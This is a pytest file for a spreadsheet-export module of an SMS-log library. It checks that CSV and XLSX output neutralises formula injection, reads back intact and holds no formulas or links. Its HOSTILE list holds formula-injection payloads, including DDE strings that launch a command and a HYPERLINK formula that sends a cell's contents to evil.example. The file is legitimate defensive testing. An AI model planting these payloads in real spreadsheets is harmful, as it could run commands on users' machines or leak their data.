"""Sheets: nothing in them is executed, and everything in them is read back."""

from __future__ import annotations

import csv
import re
import zipfile
from datetime import date, datetime
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from smssim import read_log
from smssim.logs.columns.texts import APOSTROPHES, clean
from smssim.logs.log import ColumnMappingError
from smssim.pages import spreadsheets as sheets
from smssim.pages.spreadsheets import bare, neutral, safe, write_csv, write_xlsx

HOSTILE = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"ok")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "'=1+1",
    "''=1+1",
    "=",
    "-",
    "+62-812",
    "+62(812)3456",
    '=1+1";=1+1',
    "-1e5",
    "+1+1",
    "-\uff11",
)
HARMLESS = ("+6281234567890", "+1", "-0.5", "12", "a=b", "", "'tis", "\u4e2d\u56fd", "a\nb", "1-2")


@pytest.mark.parametrize("text", HOSTILE, ids=repr)
def test_a_hostile_text_begins_with_an_apostrophe(text: str) -> None:
    assert neutral(text) == f"'{text}"
    assert bare(neutral(text)) == text


@pytest.mark.parametrize("text", HARMLESS, ids=repr)
def test_a_harmless_text_stays(text: str) -> None:
    assert neutral(text) == bare(text) == text


@given(st.text(st.sampled_from("=+-@'\t\r\n 1a.\u00a0\uff1d"), max_size=6) | st.text(max_size=8))
def test_what_is_written_is_read_back(text: str) -> None:
    cell = neutral(text)

    assert bare(cell) == text
    assert not re.match(r"[=@\t\r\n]|[+-](?![0-9]+([.][0-9]+)?\Z)", cell)


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_a_log_is_read_from_what_was_written(tmp_path: Path, form: str) -> None:
    """Times, numbers with their plus, a template that begins like a formula.

    A CSV has times to the microsecond with their zone, a worksheet to the millisecond without.
    """
    at = pd.date_range("2026-03-01T00:00:00.123456Z", periods=3, freq="s", unit="us")
    details = pd.DataFrame(
        {
            "id": ["a1", "a2", "a3"],
            "number": ["+6281234567890", "+66812345678", "+6281234567891"],
            "template": ["=offer", "code", "+code"],
            "submitted": at,
            "final": at + pd.Timedelta(seconds=4),
            "status": ["DELIVRD", "UNDELIV", "DELIVRD"],
        }
    )
    path = tmp_path / f"log.{form}"
    if form == "csv":
        write_csv(details, path)
    else:
        write_xlsx({"log": details}, path)
        with pytest.raises(ColumnMappingError, match="do not say their zone"):
            read_log(path)

    log = read_log(path, tz=None if form == "csv" else "UTC")

    assert log.messages is not None
    assert log.messages["country"].tolist() == ["ID", "TH", "ID"]
    assert log.messages["template"].tolist() == ["=offer", "code", "+code"]
    submitted = at if form == "csv" else at.floor("ms")
    assert log.messages["submitted_at"].tolist() == submitted.tolist()
    assert log.quarantine is None or not len(log.quarantine)


@pytest.mark.parametrize("text", HOSTILE, ids=repr)
def test_a_log_reads_a_neutral_cell_as_what_it_was_made_of(text: str) -> None:
    """The apostrophe is a repair; blanks and full-width characters would be repaired anyway."""
    found, repairs = clean(neutral(text))

    assert APOSTROPHES in repairs
    assert found == clean(f" {text}")[0] or (found == text and text.startswith("'"))


def frame() -> pd.DataFrame:
    """Texts of all kinds with what else is in our tables."""
    texts = [*HOSTILE, *(text for text in HARMLESS if text), None]
    n = len(texts)
    return pd.DataFrame(
        {
            "text": pd.array(texts, "str"),
            "=label": pd.Categorical(texts),
            "object": pd.Series(texts, dtype=object),
            "at": pd.date_range("2026-03-01T00:00:00.000001Z", periods=n, unit="us"),
            "day": pd.date_range("2026-03-01", periods=n, unit="us"),
            "count": pd.array([pd.NA, *range(n - 1)], "Int64"),
            "micro": np.arange(n) + 10**17,
            "share": np.linspace(-1, 1, n),
            "told": np.arange(n) % 2 == 0,
        }
    )


def test_a_csv_file_is_read_back(tmp_path: Path) -> None:
    write_csv(frame(), tmp_path / "a.csv")

    raw = (tmp_path / "a.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with (tmp_path / "a.csv").open(encoding="utf-8-sig", newline="") as file:
        heading, *rows = csv.reader(file)
    assert heading[:2] == ["text", "'=label"]
    for place in range(3):
        assert [bare(row[place]) or None for row in rows] == frame()["object"].tolist()
    for cell in (cell for row in [heading, *rows] for cell in row):
        assert neutral(bare(cell)) == cell, "no cell is a formula"
    first = ["2026-03-01T00:00:00.000001Z", "2026-03-01", "", f"{10**17}", "-1.0", "True"]
    assert rows[0][3:] == first


def test_an_xlsx_file_is_read_back(tmp_path: Path) -> None:
    write_xlsx({"cells": frame(), "none": frame().iloc[:0]}, tmp_path / "a.xlsx")

    book = CalamineWorkbook.from_path(str(tmp_path / "a.xlsx"))
    assert book.sheet_names == ["cells", "none"]
    heading, *rows = book.get_sheet_by_name("cells").to_python()
    assert heading[:2] == ["text", "'=label"]
    # A worksheet knows no carriage return of its own: XML reads it as a line feed.
    wanted = [text and text.replace("\r", "\n") for text in frame()["object"].tolist()]
    for place in range(3):
        found = [bare(str(row[place])).replace("\r", "\n") or None for row in rows]
        assert found == wanted
    share = pytest.approx(frame()["share"][1])
    second = [datetime(2026, 3, 2), date(2026, 3, 2), 0, f"{10**17 + 1}", share, False]
    assert rows[1][3:] == second
    assert rows[0][5] == ""
    assert book.get_sheet_by_name("none").to_python() == [heading]


def test_midnight_is_shown_as_the_rest_of_its_column(tmp_path: Path) -> None:
    """As a time among times, and as a date in a column of days."""
    at = pd.to_datetime(["2026-03-01T00:00Z", "2026-03-01T01:30Z"])
    write_xlsx({"a": pd.DataFrame({"at": at, "day": at.floor("D")})}, tmp_path / "a.xlsx")

    with zipfile.ZipFile(tmp_path / "a.xlsx") as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    formats = dict(re.findall(r'<c r="([AB][23])" s="(\d+)"', sheet))
    assert formats["A2"] == formats["A3"]
    assert formats["B2"] == formats["B3"] != formats["A2"]


def test_a_workbook_has_neither_formulas_nor_links(tmp_path: Path) -> None:
    links = pd.DataFrame({"text": ["http://evil.example", "mailto:a@b.example", "external:x.xlsx"]})
    for name in ("a", "b"):
        write_xlsx({"cells": frame(), "links": links}, tmp_path / f"{name}.xlsx")

    with zipfile.ZipFile(tmp_path / "a.xlsx") as archive:
        for name in archive.namelist():
            content = archive.read(name)
            assert b"<f>" not in content
            assert b"<hyperlink" not in content
            assert b"/hyperlink" not in content, "a link's relation"
    assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()


def test_times_in_another_zone_are_written_in_utc() -> None:
    at = pd.Series(pd.to_datetime(["2026-03-01T08:00:00+08:00", None]), dtype="object")
    made = safe(pd.DataFrame({"at": pd.to_datetime(at, utc=True).dt.tz_convert("Asia/Shanghai")}))

    assert made["at"].tolist()[0] == "2026-03-01T00:00:00Z"
    assert made["at"].isna().tolist() == [False, True]


def test_a_long_text_is_cut(tmp_path: Path) -> None:
    """Rather than left out, as the writer of the format would."""
    write_xlsx({"a": pd.DataFrame({"text": ["=" + "x" * 40_000]})}, tmp_path / "a.xlsx")

    found = CalamineWorkbook.from_path(str(tmp_path / "a.xlsx")).get_sheet_by_index(0).to_python()
    assert found[1][0] == "'=" + "x" * 32_764 + "\u2026"


@pytest.mark.parametrize(
    ("frames", "told"),
    [
        ({}, "must hold a worksheet"),
        ({"a/b": pd.DataFrame()}, r"worksheet\(='a/b'\) must be 1 to 31 characters"),
        ({"": pd.DataFrame()}, r"worksheet\(=''\)"),
        ({"'a": pd.DataFrame()}, "quotes at its ends"),
        ({"a" * 32: pd.DataFrame()}, "1 to 31 characters"),
        ({"A": pd.DataFrame(), "a": pd.DataFrame()}, "must have names that differ"),
    ],
    ids=str,
)
def test_a_wrong_worksheet_is_named(tmp_path: Path, frames: Any, told: str) -> None:
    with pytest.raises(ValueError, match=told):
        write_xlsx(frames, tmp_path / "a.xlsx")
    assert not list(tmp_path.iterdir())


def test_too_many_rows_are_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sheets, "MOST_ROWS", 2)

    with pytest.raises(ValueError, match=r"len\(frame\)\(=3\) must be <= 2, .*: a$"):
        write_xlsx({"a": pd.DataFrame({"n": range(3)})}, tmp_path / "a.xlsx")


def test_columns_of_one_name_are_refused() -> None:
    with pytest.raises(ValueError, match="must have names of their own"):
        safe(pd.DataFrame([[1, 2]], columns=["a", "a"]))
